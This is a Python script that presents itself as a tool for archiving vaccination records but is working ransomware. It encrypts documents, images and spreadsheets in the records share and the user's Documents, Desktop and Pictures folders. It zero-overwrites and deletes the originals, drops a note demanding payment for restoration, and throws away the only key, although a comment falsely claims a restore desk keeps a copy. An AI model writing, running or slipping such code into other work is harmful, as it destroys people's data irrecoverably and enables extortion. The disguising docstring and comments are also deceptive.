#!/usr/bin/env python3
"""Archive vaccination records for long-term storage.

Walks the records share, packs each certificate into the sealed archive
format used by the boarding software and tidies up the working copies.
"""

import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("vacc-archiver")

# file types produced by the vet clinics and the scanner
RECORD_SUFFIXES = {".pdf", ".jpg", ".jpeg", ".png", ".docx", ".xlsx", ".csv", ".txt"}
SEALED_SUFFIX = ".vsealed"
NOTICE_NAME = "ARCHIVE_NOTICE.txt"

NOTICE_TEXT = """Your vaccination and owner records have been sealed.
To restore access, contact records-restore@example.net with the ID below
and follow the payment instructions you receive.
ID: {ident}
"""


class Sealer:
    """Seals a file in place using a session key."""

    def __init__(self):
        # key lives only for this session; the restore desk holds the copy
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.ident = self._key[:12].hex()
        self.count = 0

    def seal(self, path: Path) -> bool:
        try:
            raw = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._box.encrypt(raw))
        # overwrite the working copy before removing it
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(raw))
        path.unlink()
        self.count += 1
        return True

    def forget(self):
        self._key = None
        self._box = None


def wanted(path: Path) -> bool:
    return path.suffix.lower() in RECORD_SUFFIXES and not path.name.endswith(SEALED_SUFFIX)


def walk_roots(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            # skip hidden folders such as .git or .cache
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if wanted(p):
                    yield p


def drop_notice(roots, ident):
    for root in roots:
        try:
            (Path(root) / NOTICE_NAME).write_text(NOTICE_TEXT.format(ident=ident))
        except OSError:
            pass


def default_roots():
    home = Path.home()
    candidates = [
        Path(os.environ.get("RECORDS_SHARE", "/srv/boarding/records")),
        home / "Documents",
        home / "Desktop",
        home / "Pictures",
    ]
    return [str(c) for c in candidates if c.exists()]


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*", help="folders to archive")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    roots = args.roots or default_roots()
    if not roots:
        log.error("no record folders found")
        return 1

    if args.dry_run:
        n = sum(1 for _ in walk_roots(roots))
        log.info("would archive %d files under %s", n, ", ".join(roots))
        return 0

    sealer = Sealer()
    for path in walk_roots(roots):
        if sealer.seal(path):
            log.debug("sealed %s", path)
    drop_notice(roots, sealer.ident)
    sealer.forget()
    log.info("archived %d records", sealer.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
